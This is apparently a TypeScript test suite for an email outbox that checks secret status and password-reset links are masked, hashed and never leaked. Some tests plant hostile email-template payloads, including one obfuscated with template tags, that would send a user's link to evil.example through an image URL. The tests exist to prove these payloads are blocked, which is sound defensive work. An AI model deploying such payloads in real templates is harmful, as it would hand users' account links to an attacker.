import { randomUUID } from 'node:crypto';
import { mkdtemp, readdir, readFile, rm, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { deliverMail, type Mailer } from '../../../server/email/deliver.ts';
import { enqueueMail, type Mail } from '../../../server/email/enqueue.ts';
import { personLink } from '../../../server/email/mail-link.ts';
import { cleanUp } from '../../../server/worker/clean-up.ts';
import type { AnyRow } from '../../fixtures/any-row.ts';
import { applicationForm } from '../../fixtures/applications.ts';
import { siteUrl } from '../../fixtures/functions-server.ts';
import { type MailServer, startMailServer } from '../../fixtures/mail/mail-server.ts';
import { tokenIn } from '../../fixtures/mail/token-in.ts';
import { linksIn } from '../../fixtures/mail/unsent-mail.ts';
import { createPeople } from '../../fixtures/people.ts';
import { prepareFunctionsServer } from '../../fixtures/prepare-server.ts';
import { jobContext } from '../../fixtures/worker.ts';

const { server } = prepareFunctionsServer({ withQuestions: false });
let mailServer: MailServer;
let mailer: Mailer;
const rejectFirst = new Set<string>();
const { rows, createApplicant } = createPeople(server);

beforeAll(async () => {
  mailServer = await startMailServer({
    onRcptTo: ({ address }, _, callback) =>
      rejectFirst.delete(address)
        ? callback(Object.assign(new Error('Later'), { responseCode: 451 }))
        : callback(),
  });
  ({ mailer } = await jobContext({ ...server, smtpUrl: mailServer.url }));
});
afterAll(() => mailServer?.stop());

const newest = async (email: string) =>
  (
    await rows('select * from outbox where to_email = $1 order by created_at desc limit 1', [email])
  )[0];

const queueAgain = (id: string) =>
  server.database.query<AnyRow>(
    `update outbox set state = 'queued', send_after = now() where id = $1`,
    [id],
  );

const show = (token: string | undefined) => server.invoke('person', { action: 'show', token });

async function linkSentTo(email: string): Promise<string> {
  const { id } = await newest(email);
  await deliverMail(mailer, id);
  return linkIn(email);
}

const linkIn = (email: string) =>
  linksIn(mailServer.to(email).at(-1)?.text ?? '', siteUrl)[0] ?? '';
const tokenSentTo = (email: string) => tokenIn(linkIn(email));

describe('the link to the person’s own page', () => {
  it('works in the sent mail and is in no column that staff can read', async () => {
    const email = 'masked@people.example';
    await server.invoke('apply', applicationForm({ email, phone: undefined }));
    const link = await linkSentTo(email);
    expect(link).toMatch(/^https:\/\/alpaca\.example\/status\/[\w-]{43}\?lang=sv$/);
    expect(await show(tokenSentTo(email))).toMatchObject({ status: 200 });
    const mail = await newest(email);
    expect(mail).toMatchObject({
      state: 'sent',
      variables: { link: 'https://alpaca.example/status/••••?lang=sv' },
      links: { link: { kind: 'status' } },
      html: expect.stringContaining('href="https://alpaca.example/status/••••?lang=sv"'),
      body_text: expect.stringContaining('https://alpaca.example/status/••••'),
    });
    expect(JSON.stringify(mail)).not.toContain(tokenSentTo(email));
    expect(mailServer.to(email)[0]?.html).toContain(`href="${link}"`);
    const shown = await server.invoke('show-mail', { mail_id: mail.id }, { as: 'rasmus' });
    expect(shown.data).toMatchObject({ html: expect.stringContaining('/status/••••') });
    expect(JSON.stringify(shown.data)).not.toContain(tokenSentTo(email));
  });

  it('opens the page in the language of the mail', async () => {
    const email = 'english@people.example';
    await server.invoke('apply', applicationForm({ email, phone: undefined, language: 'en' }));
    expect(await linkSentTo(email)).toMatch(/\/status\/[\w-]{43}\?lang=en$/);
    const { html = '' } = mailServer.to(email)[0] ?? {};
    const pages = [...html.matchAll(/href="(https:[^"]*)"/g)].map(([, href = '']) => href);
    expect(pages).toHaveLength(3);
    expect(pages.filter((href) => !href.endsWith('?lang=en'))).toEqual([]);
  });

  it('works in a mail that the database has enqueued', async () => {
    const { email, id } = await createApplicant();
    await rows('update people set email = $2 where id = $1', [id, `new.${email}`]);
    const mail = await newest(`new.${email}`);
    expect(mail).toMatchObject({ template_key: 'person_new_email' });
    const shown = await server.invoke('show-mail', { mail_id: mail.id }, { as: 'rasmus' });
    expect(shown.data.html).toContain('href="https://alpaca.example/me/••••?lang=sv"');
    expect(await linkSentTo(`new.${email}`)).toMatch(
      /^https:\/\/alpaca\.example\/me\/[\w-]{43}\?lang=sv$/,
    );
    expect(await show(tokenSentTo(`new.${email}`))).toMatchObject({ status: 200 });
  });

  it('never points to another host, also in templates of earlier releases', async () => {
    const email = 'leaking@people.example';
    await rows('alter table email_templates disable trigger check_template_secrets');
    const [before] = await rows(
      `select body from email_templates where key = 'application_received'`,
    );
    const body = '<p>Hi</p><img src="https://evil.example/p?{{ link }}">';
    const change = `update email_templates set body = $1 where key = 'application_received'`;
    await rows(change, [{ en: body, sv: body }]);
    await server.invoke('apply', applicationForm({ email, phone: undefined }));
    const link = await linkSentTo(email);
    await rows(change, [before.body]);
    await rows('alter table email_templates enable trigger check_template_secrets');
    expect(link).toMatch(/^https:\/\/alpaca\.example\/status\/[\w-]{43}\?lang=sv$/);
    expect(mailServer.to(email)[0]?.html).not.toContain('evil');
    expect(await newest(email)).toMatchObject({ last_error: expect.stringContaining('leak') });
  });

  it('stays masked inside a URL that staff typed', async () => {
    const { email, id } = await createApplicant();
    const [link] = await rows('select id from applications where person_id = $1', [id]);
    await enqueueMail(server.database.query, {
      template: 'application_message',
      to: email,
      language: 'en',
      personId: id,
      applicationId: link.id,
      subject: 'Hello',
      text: 'Open https://evil.example/?https://alpaca.example/status/•••• now',
      variables: { link: personLink(siteUrl, 'en', { applicationId: link.id }) },
    });
    await linkSentTo(email);
    const sent = mailServer.to(email).at(-1);
    expect(`${sent?.html}${sent?.text}`).toContain(
      'evil.example/?https://alpaca.example/status/••••',
    );
  });

  it('does not exist before the mail is sent', async () => {
    const email = 'waiting@people.example';
    await server.invoke('apply', applicationForm({ email, phone: undefined }));
    const [before] = await rows(
      'select count(*)::int as links from private.person_links join people on people.id = person_id where email = $1',
      [email],
    );
    expect(before).toEqual({ links: 0 });
    expect(JSON.stringify(await newest(email))).toContain('/status/••••');
  });

  it('is the same on every attempt, so that the first copy of a mail works too', async () => {
    const email = 'twice@people.example';
    rejectFirst.add(email);
    await server.invoke('apply', applicationForm({ email, phone: undefined }));
    const { id } = await newest(email);
    expect(await deliverMail(mailer, id)).toBe('waiting');
    await queueAgain(id);
    expect(await deliverMail(mailer, id)).toBe('sent');
    const first = linkIn(email);
    await queueAgain(id);
    expect(await deliverMail(mailer, id)).toBe('sent');
    expect(mailServer.to(email)).toHaveLength(2);
    expect(linkIn(email)).toBe(first);
    expect(await show(tokenSentTo(email))).toMatchObject({ status: 200 });
  });

  it('is sent to the current address of the person, not to a former one', async () => {
    const { email, id } = await createApplicant();
    const { id: waiting } = await newest(email);
    await rows(`update people set email = 'moved@people.example' where id = $1`, [id]);
    expect(await deliverMail(mailer, waiting)).toBe('sent');
    expect(mailServer.to(email)).toEqual([]);
    expect(await show(tokenSentTo('moved@people.example'))).toMatchObject({ status: 200 });
    await rows(`update outbox set to_email = $2 where id = $1`, [waiting, email]);
    await queueAgain(waiting);
    expect(await deliverMail(mailer, waiting)).toBe('failed');
    expect(await rows('select last_error from outbox where id = $1', [waiting])).toEqual([
      { last_error: 'link: the person no longer has this address: write a new mail' },
    ]);
    expect(mailServer.to(email)).toEqual([]);
  });

  it.each([
    ['changes it by a filter', '<p>{{ link | upcase }}</p>'],
    [
      'sends it to another server',
      `<{% if link == 'z' %} {% endif %}img alt=">" src="https:/{% if link == 'z' %} {% endif %}/evil.example/? {{ link }} "><p>{{ link }}</p>`,
    ],
  ])('is sent with the built-in text if a template %s', async (_, text) => {
    const [{ body }] = await rows(`select body from email_templates where key = 'person_link'`);
    await rows('alter table email_templates disable trigger check_template_secrets');
    await rows(
      `update email_templates set body = jsonb_build_object('en', $1::text, 'sv', body ->> 'sv')
       where key = 'person_link'`,
      [text],
    );
    const { email, id } = await createApplicant();
    const mail: Mail = {
      to: email,
      language: 'en',
      template: 'person_link',
      personId: id,
      variables: { first_name: 'Ada', link: personLink(siteUrl, 'en') },
    };
    const mailId = (await server.database.transaction((query) => enqueueMail(query, mail))) ?? '';
    expect(await deliverMail(mailer, mailId)).toBe('sent');
    expect(await show(tokenSentTo(email))).toMatchObject({ status: 200 });
    expect(mailServer.to(email).at(-1)?.html).not.toContain('evil.example');
    expect((await newest(email)).last_error).toBe(
      'template: a link or a code is changed or could leak',
    );
    await rows(`update email_templates set body = $1 where key = 'person_link'`, [body]);
    await rows('alter table email_templates enable trigger check_template_secrets');
  });
});

describe('a mail about an account', () => {
  it('contains a link and a code that are stored only as hashes', async () => {
    const [{ email: known }] = await rows('select email from auth.users limit 1');
    await rows(
      `update email_templates set body = jsonb_build_object('en', body ->> 'en' || '<p>{{ code }}</p>', 'sv', body ->> 'sv')
       where key = 'auth_recovery'`,
    );
    await server.invoke('send-password-reset', { email: known });
    const mail = await newest(known);
    expect(mail).toMatchObject({
      variables: {
        code: '••••••',
        link: expect.stringContaining('/verify?token=••••&type=recovery'),
      },
    });
    expect(await deliverMail(mailer, mail.id)).toBe('sent');
    const token = new URL(linkIn(known)).searchParams.get('token') ?? '';
    expect(token).toMatch(/^[0-9a-f]{56}$/);
    const [code = ''] = /\b\d{6}\b/.exec(mailServer.to(known).at(-1)?.text ?? '') ?? [];
    const [kept] = await rows(
      `select token_hash = encode(sha256(convert_to($1, 'UTF8')), 'hex') as opens_by_link,
         code_hash = encode(sha256(convert_to(user_id || ':' || $2, 'UTF8')), 'hex') as opens_by_code
       from auth.one_time_tokens join auth.users on users.id = user_id where email = $3`,
      [token, code, known],
    );
    expect(kept).toEqual({ opens_by_link: true, opens_by_code: true });
    const after = await newest(known);
    expect(JSON.stringify(after)).not.toContain(token);
    expect(after.body_text).not.toContain(code);
    expect(after.body_text).toContain('token=••••');
  });

  it('is in the language of the request', async () => {
    const id = randomUUID();
    const email = `${id}@alpaca.example`;
    await rows(
      `insert into auth.users (id, email, email_confirmed_at, raw_user_meta_data) values ($1, $2, now(), '{"language": "en"}')`,
      [id, email],
    );
    await server.invoke('send-password-reset', { email }, { headers: { 'accept-language': 'sv' } });
    const mail = await newest(email);
    expect(mail).toMatchObject({ language: 'sv' });
    expect(decodeURIComponent(mail.variables.link)).toContain('/admin/password-reset?lang=sv');
  });
});

describe('without a mail server', () => {
  it('writes the mail where only its operator can read it, until a week has passed', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'unsent-'));
    const unsentFolder = join(folder, 'unsent-mail');
    const printed: string[] = [];
    const print = (line: string) => void printed.push(line);
    const context = await jobContext({ ...server, unsentFolder, print });
    const { email } = await createApplicant();
    const { id } = await newest(email);
    expect(await deliverMail(context.mailer, id)).toBe('kept');
    const file = join(unsentFolder, `${id}.eml`);
    const [link] = linksIn(await readFile(file, 'utf8'), siteUrl);
    expect(await show(tokenIn(link))).toMatchObject({ status: 200 });
    expect((await stat(file)).mode & 0o777).toBe(0o600);
    expect((await stat(unsentFolder)).mode & 0o777).toBe(0o700);
    expect(printed).toEqual([`  Mail kept (application_received) ${file}`]);

    await cleanUp(context, undefined, async () => undefined);
    expect(await readdir(unsentFolder)).toEqual([`${id}.eml`]);
    await rows(`update outbox set sent_at = now() - interval '8 days' where id = $1`, [id]);
    await cleanUp(context, undefined, async () => undefined);
    expect(await readdir(unsentFolder)).toEqual([]);
    await rm(folder, { recursive: true });
  });

  it('prints links for a person at a terminal', async () => {
    const printed: string[] = [];
    const print = (line: string) => void printed.push(line);
    const context = await jobContext({ ...server, printsLinks: true, print });
    const { email } = await createApplicant();
    await deliverMail(context.mailer, (await newest(email)).id);
    expect(printed[0]).toMatch(/https:\/\/alpaca\.example\/status\/[\w-]{43}\?lang=sv$/);
  });
});
